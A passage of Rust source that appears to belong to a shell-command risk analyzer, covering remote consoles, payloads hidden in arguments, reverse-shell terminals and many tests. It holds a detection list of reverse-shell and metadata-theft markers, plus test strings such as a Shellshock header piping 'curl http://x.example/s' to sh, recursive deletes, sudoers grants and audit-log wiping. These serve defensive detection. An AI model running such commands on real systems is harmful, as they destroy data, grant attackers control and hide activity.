    },
    Console {
        program: "limactl",
        verbs: &["shell"],
        value_opts: &["--workdir", "--shell"],
        command_opts: &[],
        names: 1,
        via: "limactl shell",
    },
    Console {
        program: "minikube",
        verbs: &["ssh"],
        value_opts: &["-n", "--node", "-p", "--profile"],
        command_opts: &[],
        names: 0,
        via: "minikube ssh",
    },
    Console {
        program: "colima",
        verbs: &["ssh"],
        value_opts: &["-p", "--profile"],
        command_opts: &[],
        names: 0,
        via: "colima ssh",
    },
    Console {
        program: "docker-compose",
        verbs: &["exec"],
        value_opts: COMPOSE_VALUE_OPTIONS,
        command_opts: &[],
        names: 1,
        via: "docker-compose exec",
    },
    Console {
        program: "docker-compose",
        verbs: &["run"],
        value_opts: COMPOSE_VALUE_OPTIONS,
        command_opts: &[],
        names: 1,
        via: "docker-compose run",
    },
    Console {
        program: "podman-compose",
        verbs: &["exec"],
        value_opts: COMPOSE_VALUE_OPTIONS,
        command_opts: &[],
        names: 1,
        via: "podman-compose exec",
    },
    Console {
        program: "podman-compose",
        verbs: &["run"],
        value_opts: COMPOSE_VALUE_OPTIONS,
        command_opts: &[],
        names: 1,
        via: "podman-compose run",
    },
    Console {
        program: "distrobox",
        verbs: &["enter"],
        value_opts: &["-n", "--name"],
        command_opts: &[],
        names: 1,
        via: "distrobox enter",
    },
    Console {
        program: "toolbox",
        verbs: &["run"],
        value_opts: &["-c", "--container", "-d", "--distro", "-r", "--release"],
        command_opts: &[],
        names: 0,
        via: "toolbox run",
    },
    Console {
        program: "orb",
        verbs: &["run"],
        value_opts: &["-m", "--machine", "-u", "--user", "-w", "--workdir"],
        command_opts: &[],
        names: 0,
        via: "orb run",
    },
    Console {
        program: "ddev",
        verbs: &["exec"],
        value_opts: &["-s", "--service", "-d", "--dir"],
        command_opts: &[],
        names: 0,
        via: "ddev exec",
    },
    Console {
        program: "drush",
        verbs: &["ssh"],
        value_opts: &["--cd", "-l", "--uri", "-r", "--root"],
        command_opts: &[],
        names: 0,
        via: "drush ssh",
    },
    Console {
        program: "drush",
        verbs: &["site:ssh"],
        value_opts: &["--cd", "-l", "--uri", "-r", "--root"],
        command_opts: &[],
        names: 0,
        via: "drush ssh",
    },
    Console {
        program: "lando",
        verbs: &["ssh"],
        value_opts: &["-s", "--service", "-u", "--user"],
        command_opts: &["-c", "--command"],
        names: 0,
        via: "lando ssh",
    },
];

/// Programs whose site alias (`@name`) may stand before the verb: Drush (`drush @prod ssh CMD`;
/// Drush docs, "Site aliases").
const SITE_ALIAS_PROGRAMS: &[&str] = &["drush"];

/// The command a [`CONSOLE_COMMANDS`] console runs, with the console's name, or `None` (no
/// command: an interactive console).
fn console_command(name: &str, inv: &Inv) -> Option<(&'static str, String)> {
    let words: Vec<&str> = inv.rest().iter().map(|x| x.text.as_str()).collect();
    CONSOLE_COMMANDS
        .iter()
        .filter(|c| c.program == name)
        .find_map(|c| console_words(c, name, &words))
}

/// [`console_command`] for one row.
fn console_words(c: &Console, name: &str, words: &[&str]) -> Option<(&'static str, String)> {
    let Console {
        verbs,
        value_opts,
        command_opts,
        names,
        via,
        ..
    } = c;
    let mut names_left = *names;
    let mut i = 0;
    let mut matched = 0;
    let mut dashes = false;
    let mut command: Option<String> = None;
    while let Some(w) = words.get(i) {
        if matched < verbs.len() {
            if *w == verbs[matched] {
                matched += 1;
            } else if matched == 0 && w.starts_with('@') && SITE_ALIAS_PROGRAMS.contains(&name) {
                // `drush @prod ssh CMD`: the site alias names where the command runs.
            } else if !w.starts_with('-') {
                return None;
            } else if value_opts.contains(w) {
                i += 1;
            }
            i += 1;
            continue;
        }
        if command_opts.contains(w) {
            command = words.get(i + 1).map(|v| (*v).to_string());
            i += 2;
            continue;
        }
        if let Some(v) = command_opts
            .iter()
            .find_map(|o| w.strip_prefix(o).and_then(|r| r.strip_prefix('=')))
        {
            command = Some(v.to_string());
            i += 1;
            continue;
        }
        if *w == "--" {
            i += 1;
            dashes = true;
            break;
        }
        if !w.starts_with('-') {
            if names_left > 0 {
                names_left -= 1;
                i += 1;
                continue;
            }
            break;
        }
        i += if value_opts.contains(w) { 2 } else { 1 };
    }
    if matched < verbs.len() {
        return None;
    }
    // The words after `--` are the command for every console, those with a command option too
    // (`vagrant ssh -- rm -rf /`: Vagrant passes them to ssh as its command).
    if command.is_none() && (command_opts.is_empty() || dashes) {
        let mut rest: Vec<&str> = words.get(i..).unwrap_or(&[]).to_vec();
        // The Heroku CLI reads its own flags after the command too (`heroku run bash -a app`)
        // unless `--` ended them.
        if name == "heroku" && !dashes {
            let mut kept = Vec::new();
            let mut skip = false;
            for w in rest {
                if std::mem::take(&mut skip) {
                    continue;
                }
                if matches!(w, "-a" | "--app" | "-r" | "--remote") {
                    skip = true;
                    continue;
                }
                kept.push(w);
            }
            rest = kept;
        }
        command = match rest.as_slice() {
            [] => None,
            // One word: a command line, as `ssh host 'CMD'` takes it.
            [one] => Some((*one).to_string()),
            // Several: most of these consoles hand the words to the program as its argv
            // (`docker-compose exec web sh -c 'rm -rf /'`, multipass, lxc, distrobox), so a
            // word that holds blanks or shell syntax stays one word; the consoles that join
            // them into one line are then judged on the stricter reading.
            words => Some(
                words
                    .iter()
                    .map(|w| console_word(w))
                    .collect::<Vec<_>>()
                    .join(" "),
            ),
        };
    }
    command.map(|c| (*via, c))
}

/// One word of a console's command, quoted when blanks or shell syntax in it would split or
/// change it on re-reading; glob characters are left as they were given.
fn console_word(w: &str) -> String {
    if w.is_empty()
        || w.contains([
            ' ', '\t', '\n', ';', '&', '|', '<', '>', '(', ')', '$', '`', '"', '\'', '\\',
        ])
    {
        super::sh_quote(w)
    } else {
        w.to_string()
    }
}

/// The commands of an `aws ssm send-command --parameters` value: shorthand
/// `commands=["a","b"]` / `commands=a`, or JSON `{"commands":["a","b"]}`.
fn ssm_commands(p: &str) -> Vec<String> {
    let Some(i) = p.find("commands") else {
        return Vec::new();
    };
    let rest = p.get(i + "commands".len()..).unwrap_or("");
    let rest = rest.trim_start_matches(['"', '\'']).trim_start();
    let rest = rest
        .strip_prefix('=')
        .or_else(|| rest.strip_prefix(':'))
        .unwrap_or(rest)
        .trim_start();
    if let Some(list) = rest.strip_prefix('[') {
        let mut out = Vec::new();
        let mut cur = String::new();
        let mut quote: Option<char> = None;
        let mut esc = false;
        for c in list.chars() {
            match quote {
                Some(q) => {
                    if esc {
                        cur.push(c);
                        esc = false;
                    } else if c == '\\' {
                        esc = true;
                    } else if c == q {
                        out.push(std::mem::take(&mut cur));
                        quote = None;
                    } else {
                        cur.push(c);
                    }
                }
                None if c == '"' || c == '\'' => quote = Some(c),
                None if c == ']' => break,
                None => {}
            }
        }
        return out;
    }
    let v = super::snippet::leading_literal(rest).unwrap_or_else(|| {
        rest.split([',', '}'])
            .next()
            .unwrap_or("")
            .trim()
            .to_string()
    });
    vec![v]
}

/// Runs shell `code` on another host (`ssh host CODE`), marked `via`.
pub(crate) fn run_remote_code(a: &mut Analyzer, inv: &Inv, st: &mut State, via: &str, code: &str) {
    let saved = a.remote.replace(via.to_string());
    let saved_tier = crate::tier::enter_remote(a, inv);
    a.run_code(code, st, inv, via, None, Stream::default());
    a.remote = saved;
    a.outer_tier = saved_tier;
}

/// Markers of a shell payload that gives a remote party control: a `/dev/tcp`/`/dev/udp`
/// redirect, a named pipe wired to a shell, `nc -e`/`-c` with a shell, an interactive shell, a
/// decoded or fetched payload piped to a shell, the cloud metadata service (its credentials). An argument containing one of them (and a space) is a
/// payload candidate for [`payload_words`].
const PAYLOAD_MARKERS: &[&str] = &[
    "/dev/tcp/",
    "/dev/udp/",
    "mkfifo",
    " -e /bin/",
    " -c /bin/",
    "sh -i",
    "base64 -d",
    "base64 --decode",
    "| sh",
    "|sh",
    "| bash",
    "|bash",
    "169.254.169.254",
    "metadata.google.internal",
];

/// Programs whose arguments are only text to print, search for or store as a message:
/// a payload there is quoted, not carried anywhere to run.
pub(crate) const TEXT_ONLY: &[&str] = &[
    "echo",
    "printf",
    "grep",
    "egrep",
    "fgrep",
    "rg",
    "ag",
    "ack",
    "git",
    "gh",
    "glab",
    "jq",
    "yq",
    "sed",
    "logger",
    "wall",
    "tee",
    "cat",
    "less",
    "more",
    "head",
    "tail",
    "wc",
    "sort",
    "uniq",
    "cut",
    "tr",
    "fzf",
    "notify-send",
    "say",
    "cowsay",
    "figlet",
    "man",
    "tldr",
];

/// Shell payloads carried in the arguments of a program that hands them to something that
/// runs them: a cloud CLI's remote command or environment (`aws ssm send-command --parameters
/// commands="bash -c '…'"`, `gcloud … --update-env-vars=BROWSER=/bin/bash -c '…'`), a header a
/// vulnerable server evaluates (`curl -H 'Cookie: () { :;}; /bin/bash -i >& /dev/tcp/…'`), code
/// planted in a file's metadata (`exiftool -Comment='<?php passthru("…") ?>'`). Each argument
/// holding a [`PAYLOAD_MARKERS`] marker is analysed as shell code (whole, each quoted literal
/// inside it, and what follows each `=`), in a separate analyzer of which only the
/// remote-execution and decoded-execution facts and metadata fetches are kept: the payload's
/// other effects happen elsewhere. Programs in [`TEXT_ONLY`], shells and interpreters (analysed on their own) are
/// skipped.
pub(crate) fn payload_words(a: &mut Analyzer, name: &str, inv: &Inv) {
    if a.payload_level >= 2 || TEXT_ONLY.contains(&name) || super::is_shell(name) {
        return;
    }
    for arg in inv.rest().iter().take(64) {
        // A command substitution the shell itself runs (`-H "X-aws-ec2-metadata-token:
        // $(curl -X PUT http://169.254.169.254/latest/api/token)"`) was analysed as a command
        // already; its source text left in the value is not a payload the program carries.
        let stripped;
        let t = if arg.from_subst {
            stripped = without_substitutions(&arg.text);
            stripped.as_str()
        } else {
            arg.text.as_str()
        };
        if t.len() > 8 * 1024
            || !t.contains(char::is_whitespace)
            || !PAYLOAD_MARKERS.iter().any(|m| t.contains(m))
        {
            continue;
        }
        let mut cands: Vec<&str> = vec![t];
        cands.extend(crate::analyzer::quoted_literals(t));
        cands.extend(
            t.match_indices('=')
                .take(4)
                .filter_map(|(i, _)| t.get(i + 1..)),
        );
        for c in cands {
            if !PAYLOAD_MARKERS.iter().any(|m| c.contains(m)) {
                continue;
            }
            let mut sub = Analyzer::new(a.ctx);
            sub.payload_level = a.payload_level + 1;
            let f = sub.run_top(c);
            let metadata: Vec<_> = f.fetches.into_iter().filter(|x| x.metadata).collect();
            if f.remote_exec.is_empty() && f.decoded_exec.is_empty() && metadata.is_empty() {
                continue;
            }
            a.facts.remote_exec.extend(f.remote_exec);
            a.facts.decoded_exec.extend(f.decoded_exec);
            a.facts.fetches.extend(metadata);
            return;
        }
    }
}

/// `text` with each `$(…)` command substitution (nested ones included) and each `` `…` ``
/// one replaced by `_`: what is left is the text the program receives around the outputs.
fn without_substitutions(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut depth = 0usize;
    let mut backtick = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '$' && chars.peek() == Some(&'(') {
            chars.next();
            if depth == 0 && !backtick {
                out.push('_');
            }
            depth += 1;
        } else if depth > 0 {
            match c {
                '(' => depth += 1,
                ')' => depth -= 1,
                _ => {}
            }
        } else if c == '`' {
            if !backtick {
                out.push('_');
            }
            backtick = !backtick;
        } else if !backtick {
            out.push(c);
        }
    }
    out
}

/// A command line given as one quoted argument to a program the analyzer does not know
/// (`./run_remote.sh "rm -rf ~"`, `retry 3 "curl … | sh"`, `with_lock 'dd of=/dev/sda …'`):
/// helper scripts and functions whose job is to run their argument take it this way. When
/// the argument starts with a known program and, analysed as a command, would do something
/// harmful (see [`harmful`]), it is a `dynamic_code` fact of origin `argument`: the policy
/// asks, since whether the program runs it is not known. Known programs are described by
/// their own tables and are skipped, and so are programs that only print or search text
/// ([`TEXT_ONLY`]).
pub(crate) fn carried_command(a: &mut Analyzer, name: &str, inv: &Inv) {
    if a.payload_level >= 2
        || super::is_known_program(name)
        || super::fanout::is_runner(name)
        || TEXT_ONLY.contains(&name)
    {
        return;
    }
    for arg in inv.rest().iter().take(16) {
        let t = arg.text.trim();
        let quoted = arg.raw.starts_with(['"', '\'']);
        if !quoted || t.len() > 4096 || !t.contains(char::is_whitespace) {
            continue;
        }
        let first = t.split_whitespace().next().unwrap_or("");
        let first = first.rsplit('/').next().unwrap_or(first);
        if !super::is_known_program(first) {
            continue;
        }
        let mut sub = Analyzer::new(a.ctx);
        sub.payload_level = a.payload_level + 1;
        let f = sub.run_top(t);
        if harmful(&f) {
            a.dynamic_code(
                name,
                "argument",
                Some(t.to_string()),
                &inv.wrappers,
                &inv.evidence,
            );
            return;
        }
    }
}

/// Whether facts describe a harmful command: code fetched, decoded or unseen, privilege,
/// persistence, defence evasion, denial of service, destructive git/infra/cloud verbs,
/// uploads, metadata fetches, a recursive delete outside the project and the temporary
/// folders, or a write to a device or a system location.
fn harmful(f: &crate::ShellFacts) -> bool {
    use crate::{Access, Scope};
    let lists = [
        f.remote_exec.is_empty(),
        f.decoded_exec.is_empty(),
        f.dynamic_code.is_empty(),
        f.privilege.is_empty(),
        f.persistence.is_empty(),
        f.evasion.is_empty(),
        f.denial_of_service.is_empty(),
        f.git.is_empty(),
        f.infra.is_empty(),
        f.cloud.is_empty(),
        f.uploads.is_empty(),
    ];
    lists.iter().any(|empty| !empty)
        || f.fetches.iter().any(|x| x.metadata)
        || f.paths.iter().chain(&f.remote_paths).any(|p| {
            let outside = !matches!(p.scope, Scope::Project | Scope::Temp);
            (p.access == Access::Delete && p.recursive && outside)
                || (matches!(p.access, Access::Write | Access::Delete)
                    && matches!(p.scope, Scope::Device | Scope::System))
        })
}

/// Terminal emulators that open their window, and the shell in it, on the X display named by
/// `-display HOST:N` (X(7) "DISPLAY NAMES"; xterm(1), rxvt(1)): a display on another host is a
/// shell handed to that host.
const DISPLAY_TERMINALS: &[&str] = &["xterm", "uxterm", "rxvt", "urxvt", "aterm", "eterm"];

/// `xterm -display 203.0.113.5:1`: a `reverse_shell` to the display's host. Local displays
/// (`:0`, `localhost:10`, `unix:0`) are not.
pub(crate) fn remote_display(a: &mut Analyzer, name: &str, inv: &Inv) {
    if !DISPLAY_TERMINALS.contains(&name) {
        return;
    }
    let args = inv.rest();
    for (i, w) in args.iter().enumerate() {
        if !matches!(w.text.as_str(), "-display" | "-d" | "--display") {
            continue;
        }
        let Some(v) = args.get(i + 1) else { break };
        let host = v.text.rsplit_once(':').map(|(h, _)| h).unwrap_or("");
        let local = host.is_empty()
            || matches!(host, "localhost" | "unix" | "127.0.0.1" | "::1")
            || host.starts_with('/');
        if !local {
            a.remote_exec("reverse_shell", name, Some(host.to_string()), &inv.evidence);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn custom_script_settings_download_then_run() {
        assert_eq!(
            custom_script(r#"{"fileUris":["https://h.example.net/a/x.sh?sv=1"],"commandToExecute":"bash x.sh"}"#)
                .as_deref(),
            Some("curl -fsSL 'https://h.example.net/a/x.sh?sv=1' -o 'x.sh' && bash x.sh")
        );
        assert_eq!(
            custom_script(r#"{"commandToExecute":"apt-get install -y nginx"}"#).as_deref(),
            Some("apt-get install -y nginx")
        );
        // Settings of another extension, or no JSON, run nothing.
        assert_eq!(custom_script(r#"{"workspaceId":"w"}"#), None);
        assert_eq!(custom_script("not json"), None);
    }

    #[test]
    fn substitutions_the_shell_runs_are_not_carried_payloads() {
        assert_eq!(
            without_substitutions("X: $(curl -s http://a/$(id)) and `uname` end"),
            "X: _ and _ end"
        );
        let ctx = crate::ShellContext {
            cwd: "/home/dev/project".into(),
            home: "/home/dev".into(),
            project_dir: Some("/home/dev/project".into()),
        };
        // IMDSv2 (AWS "Use IMDSv2"): the session token is fetched and sent back as a header.
        for c in [
            "TOKEN=$(curl -s -X PUT http://169.254.169.254/latest/api/token -H 'X-aws-ec2-metadata-token-ttl-seconds: 21600') && curl -s -H \"X-aws-ec2-metadata-token: $TOKEN\" http://169.254.169.254/latest/meta-data/instance-id",
            "curl -H \"X-aws-ec2-metadata-token: $(curl -sX PUT http://169.254.169.254/latest/api/token)\" http://169.254.169.254/latest/meta-data/placement/region",
        ] {
            let f = crate::analyze(c, &ctx);
            assert!(f.remote_exec.is_empty(), "{c}: {:?}", f.remote_exec);
        }
        // A payload written literally into a header is still one.
        let f = crate::analyze(
            "curl -H 'User-Agent: () { :;}; /bin/bash -c \"curl http://x.example/s | sh\"' http://10.0.0.5/cgi-bin/status",
            &ctx,
        );
        assert!(!f.remote_exec.is_empty());
    }

    #[test]
    fn consoles_run_their_command_there() {
        let ctx = crate::ShellContext {
            cwd: "/home/dev/project".into(),
            home: "/home/dev".into(),
            project_dir: Some("/home/dev/project".into()),
        };
        let remote = |c: &str| -> Vec<(String, String)> {
            crate::analyze(c, &ctx)
                .remote_paths
                .into_iter()
                .map(|p| (p.path, p.how))
                .collect()
        };
        for (c, how) in [
            (
                "fly ssh console -a app -C 'rm -rf /data/uploads'",
                "fly ssh console: rm",
            ),
            (
                "flyctl ssh console --app app --command='rm -rf /data/uploads'",
                "fly ssh console: rm",
            ),
            ("adb shell rm -rf /data/uploads", "adb shell: rm"),
            (
                "adb -s emulator-5554 shell 'rm -rf /data/uploads'",
                "adb shell: rm",
            ),
            (
                "heroku run --app prod rm -rf /data/uploads",
                "heroku run: rm",
            ),
            ("heroku run rm -rf /data/uploads -a prod", "heroku run: rm"),
            (
                "multipass exec keen-yak -- rm -rf /data/uploads",
                "multipass exec: rm",
            ),
            (
                "multipass exec -d /tmp vm rm -rf /data/uploads",
                "multipass exec: rm",
            ),
            (
                "lxc exec web --env A=1 -- rm -rf /data/uploads",
                "lxc exec: rm",
            ),
            ("incus exec web -- rm -rf /data/uploads", "incus exec: rm"),
            (
                "lxc-attach -n web -- rm -rf /data/uploads",
                "lxc-attach: rm",
            ),
            (
                "vagrant ssh web -c 'rm -rf /data/uploads'",
                "vagrant ssh: rm",
            ),
            (
                "vagrant ssh --command='rm -rf /data/uploads'",
                "vagrant ssh: rm",
            ),
            (
                "limactl shell --workdir / default rm -rf /data/uploads",
                "limactl shell: rm",
            ),
            (
                "minikube ssh -p dev -- sudo rm -rf /data/uploads",
                "minikube ssh: rm",
            ),
            (
                "docker-compose -f ci.yml exec -T db rm -rf /data/uploads",
                "docker-compose exec: rm",
            ),
            (
                "podman-compose run --rm -e X=1 app rm -rf /data/uploads",
                "podman-compose run: rm",
            ),
            (
                "distrobox enter --name dev -- rm -rf /data/uploads",
                "distrobox enter: rm",
            ),
            (
                "lando ssh -s appserver -c 'rm -rf /data/uploads'",
                "lando ssh: rm",
            ),
            ("vagrant ssh -- rm -rf /data/uploads", "vagrant ssh: rm"),
            (
                "lxc --project p exec web -- rm -rf /data/uploads",
                "lxc exec: rm",
            ),
        ] {
            let r = remote(c);
            assert!(
                r.iter().any(|(p, h)| p == "/data/uploads" && h == how),
                "{c}: {r:?}"
            );
        }
        for c in [
            "fly ssh console -a app",
            "adb shell",
            "heroku run bash -a app",
            "adb logcat",
            "heroku runs",
            "fly ssh issue --agent",
            "multipass exec vm",
            "vagrant ssh web",
            "vagrant ssh-config",
            "lxc exec web",
            "docker-compose exec web",
            "docker-compose up -d",
            "minikube ssh",
            "limactl shell default",
            "colima ssh",
        ] {
            assert!(remote(c).is_empty(), "{c}: {:?}", remote(c));
        }
    }

    /// A lasting privilege granted on a durable host is persistence there; `sudo` for one
    /// command there, and grants in a container, are not.
    #[test]
    fn remote_privilege_grants_are_persistence() {
        let ctx = crate::ShellContext {
            cwd: "/home/dev/project".into(),
            home: "/home/dev".into(),
            project_dir: Some("/home/dev/project".into()),
        };
        let kinds = |c: &str| -> Vec<String> {
            crate::analyze(c, &ctx)
                .persistence
                .into_iter()
                .map(|p| p.kind)
                .collect()
        };
        for c in [
            "ssh h 'echo \"ci ALL=(ALL) NOPASSWD:ALL\" | sudo tee /etc/sudoers.d/ci'",
            "ssh h 'sudo chmod u+s /bin/bash'",
            "multipass exec vm -- sudo chmod 4755 /usr/bin/python3",
        ] {
            assert!(kinds(c).iter().any(|k| k == "privilege_grant"), "{c}");
        }
        for c in [
            "ssh h 'sudo apt-get update'",
            "docker exec c chmod u+s /bin/bash",
            "ssh h 'chmod 755 deploy.sh'",
            "ssh web1 'sudo setcap cap_net_bind_service=+ep /usr/local/bin/caddy'",
        ] {
            assert!(!kinds(c).iter().any(|k| k == "privilege_grant"), "{c}");
        }
        assert!(crate::analyze("ssh h 'sudo chmod u+s /bin/bash'", &ctx)
            .privilege
            .is_empty());
    }

    /// A console's words are its command's argv: a shell's `-c` script given as one quoted word
    /// stays one word (`docker-compose exec web sh -c 'rm -rf /data/uploads'`).
    #[test]
    fn console_words_keep_their_quoting() {
        let ctx = crate::ShellContext {
            cwd: "/home/dev/project".into(),
            home: "/home/dev".into(),
            project_dir: Some("/home/dev/project".into()),
        };
        for (c, how) in [
            (
                "docker-compose exec web sh -c 'rm -rf /data/uploads'",
                "docker-compose exec: rm",
            ),
            (
                "multipass exec vm -- bash -c 'rm -rf /data/uploads'",
                "multipass exec: rm",
            ),
            (
                "lxc exec web -- sh -c \"rm -rf /data/uploads\"",
                "lxc exec: rm",
            ),
            ("adb shell 'rm -rf /data/uploads'", "adb shell: rm"),
        ] {
            let r: Vec<(String, String)> = crate::analyze(c, &ctx)
                .remote_paths
                .into_iter()
                .map(|p| (p.path, p.how))
                .collect();
            assert!(
                r.iter().any(|(p, h)| p == "/data/uploads" && h == how),
                "{c}: {r:?}"
            );
        }
    }

    /// Compose's own options before the verb (`docker compose -f prod.yml exec`) leave the
    /// command in the container the same command.
    #[test]
    fn docker_compose_options_before_the_verb() {
        let ctx = crate::ShellContext {
            cwd: "/home/dev/project".into(),
            home: "/home/dev".into(),
            project_dir: Some("/home/dev/project".into()),
        };
        let remote = |c: &str| -> Vec<(String, String)> {
            crate::analyze(c, &ctx)
                .remote_paths
                .into_iter()
                .map(|p| (p.path, p.how))
                .collect()
        };
        let plain = remote("docker compose exec web rm -rf /data/uploads");
        assert!(!plain.is_empty());
        for c in [
            "docker compose -f prod.yml exec web rm -rf /data/uploads",
            "docker compose --file=prod.yml -p shop exec web rm -rf /data/uploads",
            "docker compose --project-name shop --ansi never exec web rm -rf /data/uploads",
        ] {
            assert_eq!(remote(c), plain, "{c}");
        }
        assert!(remote("docker compose -f prod.yml up -d").is_empty());
    }

    #[test]
    fn bind_mounted_host_folders_are_local_paths() {
        let ctx = crate::ShellContext {
            cwd: "/home/dev/project".into(),
            home: "/home/dev".into(),
            project_dir: Some("/home/dev/project".into()),
        };
        for (cmd, want) in [
            (
                "docker run --rm -v ~:/h alpine sh -c 'rm -rf /h/*'",
                "/home/dev/*",
            ),
            ("podman run -v /:/host alpine rm -rf /host/etc", "/etc"),
            (
                "docker run --mount type=bind,source=/srv,target=/data alpine rm -rf /data/x",
                "/srv/x",
            ),
            (
                "docker run -v $PWD:/app node rm -rf /app/dist",
                "/home/dev/project/dist",
            ),
        ] {
            let f = crate::analyze(cmd, &ctx);
            assert!(
                f.paths.iter().any(|p| p.path == want && p.recursive),
                "{cmd}: {:?}",
                f.paths
            );
        }
        // A named volume is not a folder of this machine; without a mount nothing is local.
        for cmd in [
            "docker run -v data:/var/lib/x alpine rm -rf /var/lib/x",
            "docker run alpine rm -rf /tmp/x",
        ] {
            let f = crate::analyze(cmd, &ctx);
            assert!(
                f.paths.iter().all(|p| p.access != crate::Access::Delete),
                "{cmd}: {:?}",
                f.paths
            );
        }
    }

    #[test]
    fn git_keys() {
        assert_eq!(
            git_key_command("alias.x", "!rm -rf ~").as_deref(),
            Some("rm -rf ~")
        );
        assert_eq!(git_key_command("alias.st", "status"), None);
        assert_eq!(
            git_key_command("core.pager", "less -R").as_deref(),
            Some("less -R")
        );
        assert_eq!(git_key_command("core.fsmonitor", "true"), None);
        assert_eq!(git_key_command("color.ui", "always"), None);
        assert_eq!(
            git_key_command("filter.lfs.smudge", "git-lfs smudge %f").as_deref(),
            Some("git-lfs smudge %f")
        );
        assert_eq!(
            git_ext_command("ext::sh -c rm% -rf% ~").as_deref(),
            Some("sh -c 'rm -rf ~'")
        );
    }

    #[test]
    fn ex_commands() {
        assert_eq!(ex_shell_command("!rm -rf ~").as_deref(), Some("rm -rf ~"));
        assert_eq!(ex_shell_command(":silent !id").as_deref(), Some("id"));
        assert_eq!(ex_shell_command("r !curl x").as_deref(), Some("curl x"));
        assert_eq!(ex_shell_command("call system('id')").as_deref(), Some("id"));
        assert_eq!(ex_shell_command("set number"), None);
        assert_eq!(ex_shell_command("wq"), None);
    }

    #[test]
    fn sqlite_dots() {
        assert_eq!(
            sqlite_shell_commands(".shell rm -rf ~\nselect 1;"),
            ["rm -rf ~"]
        );
        assert_eq!(sqlite_shell_commands(".system id"), ["id"]);
        assert!(sqlite_shell_commands(".tables").is_empty());
        assert!(sqlite_shell_commands(".shellx").is_empty());
    }

    #[test]
    fn tables_are_lower_case() {
        for (k, _) in GIT_COMMAND_KEYS {
            assert_eq!(*k, k.to_ascii_lowercase());
        }
        for o in CONTAINER_VALUE_OPTS {
            assert!(o.starts_with('-'), "{o}");
        }
    }

    fn remote_ctx() -> crate::ShellContext {
        crate::ShellContext {
            cwd: "/home/dev/project".into(),
            home: "/home/dev".into(),
            project_dir: Some("/home/dev/project".into()),
        }
    }

    /// `kubectl debug node/NAME -- CMD` (and `oc debug node/NAME`) runs CMD on the node, a
    /// durable host, `chroot /host` included; `kubectl debug POD -- CMD` runs in a container of
    /// the pod; no command, no facts.
    #[test]
    fn node_debug_runs_on_the_node() {
        let ctx = remote_ctx();
        let f = crate::analyze(
            "kubectl --context stage debug node/worker-3 -it --image=alpine -- chroot /host sh -c 'rm -rf /var/lib/etcd'",
            &ctx,
        );
        let p = f
            .remote_paths
            .iter()
            .find(|p| p.path == "/var/lib/etcd")
            .expect("node path");
        assert_eq!(p.how, "kubectl debug node: rm");
        assert!(f.paths.iter().all(|p| p.path != "/var/lib/etcd"));
        let f = crate::analyze(
            "oc debug node/master-0 -- chroot /host sh -c 'truncate -s 0 /var/log/audit/audit.log'",
            &ctx,
        );
        assert!(
            f.evasion.iter().any(|e| e.kind == "logs"),
            "{:?}",
            f.evasion
        );
        let f = crate::analyze(
            "kubectl debug node/w1 -it --image=busybox -- chroot /host journalctl --vacuum-time=3d",
            &ctx,
        );
        assert_eq!(
            f.evasion.first().map(|e| e.target.as_str()),
            Some("kubectl debug node: journalctl")
        );
        let f = crate::analyze(
            "kubectl debug web-7d9 -it --image=busybox --target=app -- rm -rf /srv/data",
            &ctx,
        );
        assert!(f.remote_paths.iter().any(|p| p.how == "kubectl debug: rm"));
        let f = crate::analyze("kubectl debug node/w1 -it --image=busybox", &ctx);
        assert!(f.remote_paths.is_empty() && f.evasion.is_empty());
    }

    /// `drush @alias ssh CMD` / `drush site:ssh CMD` runs CMD on the site's web server.
    #[test]
    fn drush_ssh_runs_on_the_web_server() {
        let ctx = remote_ctx();
        for c in [
            "drush @shop.live ssh 'rm -rf web/sites/default/files/private'",
            "drush site:ssh --cd=/var/www rm -rf web/sites/default/files/private",
        ] {
            let f = crate::analyze(c, &ctx);
            assert!(
                f.remote_paths
                    .iter()
                    .any(|p| p.how.starts_with("drush ssh: ") && p.access == crate::Access::Delete),
                "{c}: {:?}",
                f.remote_paths
            );
            assert!(crate::analyzer::durable_host("drush ssh: rm"));
        }
        // Drush's own verbs are not a console.
        let f = crate::analyze("drush @shop.live cache:rebuild", &ctx);
        assert!(f.remote_paths.is_empty());
    }

    /// Files made writable by every user on a durable host are a `permissions_opened` evasion
    /// fact named with the host; in a container or the project, nothing.
    #[test]
    fn remote_world_writable_is_permissions_opened() {
        let ctx = remote_ctx();
        for c in [
            "ssh web1 'chmod -R 777 /srv/www/site'",
            "ssh web1 'sudo chmod 666 /var/run/docker.sock'",
            "ssh web1 'chmod o+w /srv/www/site/config.php'",
        ] {
            let f = crate::analyze(c, &ctx);
            assert!(
                f.evasion
                    .iter()
                    .any(|e| e.kind == "permissions_opened" && e.target.starts_with("ssh web1: ")),
                "{c}: {:?}",
                f.evasion
            );
            assert!(f.privilege.is_empty(), "{c}");
        }
        for c in [
            "ssh web1 'chmod 755 /srv/www/site/deploy.sh'",
            "docker exec web chmod -R 777 /var/www/html",
            "ssh web1 'chmod -R 777 /tmp/build'",
        ] {
            let f = crate::analyze(c, &ctx);
            assert!(
                !f.evasion.iter().any(|e| e.kind == "permissions_opened"),
                "{c}"
            );
        }
    }
}
